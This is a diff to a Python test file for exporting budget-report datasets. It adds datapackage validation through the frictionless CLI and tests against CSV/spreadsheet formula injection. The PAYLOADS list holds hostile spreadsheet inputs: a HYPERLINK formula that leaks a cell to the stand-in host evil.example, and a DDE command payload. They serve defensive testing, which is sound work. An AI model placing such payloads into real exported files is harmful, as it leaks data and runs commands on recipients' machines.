@@ -229,17 +229,26 @@ def test_a_duplicated_report_fails_the_primary_key(csv_dir, tmp_path):
 
 
 def test_extract_writes_a_datapackage_beside_the_datasets(processed):
-    from frictionless import Package
-
     desc = json.loads((processed / "datapackage.json").read_text(encoding="utf-8"))
     res = {r["name"]: r for r in desc["resources"]}
     assert list(res) == list(schema.DATASETS)
     for r in res.values():
         assert r["format"] == "parquet" and (processed / r["path"]).exists()
-    # a valid descriptor; its data is the CSV package's, validated above (frictionless's Parquet
-    # reader hands list cells over as numpy arrays, which its own `array` type then refuses)
-    report = Package.validate_descriptor(str(processed / "datapackage.json"))
-    assert report.valid, report.flatten(["type", "note"])
+    # the data validates too, as a researcher would run it: `frictionless validate` exits 0 (list
+    # columns are `any` there: frictionless's Parquet reader hands list cells over as numpy arrays,
+    # which its own `array` type refuses, 128 type errors on the corpus)
+    notes = next(f for f in res["reports"]["schema"]["fields"] if f["name"] == "notes")
+    assert notes["type"] == "any" and "list of strings" in notes["description"]
+    r = subprocess.run(
+        [str(Path(sys.executable).parent / "frictionless"), "validate", "--json", "datapackage.json"],
+        cwd=processed,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    report = json.loads(r.stdout)
+    assert r.returncode == 0 and report["valid"], [(t["name"], t["errors"][:3]) for t in report["tasks"] if t["errors"]]
+    assert {t["name"]: t["stats"]["rows"] for t in report["tasks"]}["reports"] == len(raw_files())
 
 
 def test_datapackage_describes_the_parts_of_a_partitioned_dataset(tmp_path):
@@ -445,3 +454,60 @@ def _same(want, got, dtype: str, ds: str, col: str, digits: int | None = None) -
         assert pd.Timestamp(got).date() == want, where
     else:
         raise AssertionError(f"{where}: unknown type {dtype}")
+
+
+# -- formula injection (OWASP "CSV injection") -------------------------------------------------
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _injected_rows() -> pd.DataFrame:
+    """line_items whose row labels are formula payloads, with a negative amount that must stay a number."""
+    n = len(PAYLOADS)
+    return schema.conform(
+        pd.DataFrame(
+            {
+                "report_id": ["r1"] * (n + 1),
+                "table": ["T1"] * (n + 1),
+                "row_label": [*PAYLOADS, "一般公共服务支出"],
+                "amount_wan": [-12.5] * n + [3.0],
+            }
+        ),
+        "line_items",
+    )
+
+
+def test_csv_neutralises_every_formula_trigger_and_leaves_numbers(tmp_path):
+    from helpers.export import write_csv
+
+    write_csv({"line_items": _injected_rows()}, tmp_path)
+    with open(tmp_path / "line_items.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["row_label"] for r in rows] == [f"'{p}" for p in PAYLOADS] + ["一般公共服务支出"]
+    assert [r["amount_wan"] for r in rows] == ["-12.5"] * len(PAYLOADS) + ["3.0"]  # numbers untouched
+
+
+def test_xlsx_writes_no_formula_cell_and_keeps_the_text(tmp_path):
+    import openpyxl
+
+    from helpers.export import write_xlsx
+
+    write_xlsx({"line_items": _injected_rows()}, tmp_path)
+    wb = openpyxl.load_workbook(tmp_path / "juesuan.xlsx")
+    ws = wb["line_items"]
+    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    col = schema.columns("line_items").index("row_label") + 1
+    cells = [ws.cell(row=i + 2, column=col) for i in range(len(PAYLOADS))]
+    assert [c.value for c in cells] == PAYLOADS  # the text itself, as a text cell Excel will not evaluate
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    amount = ws.cell(row=2, column=schema.columns("line_items").index("amount_wan") + 1)
+    assert amount.value == -12.5 and amount.data_type == "n"
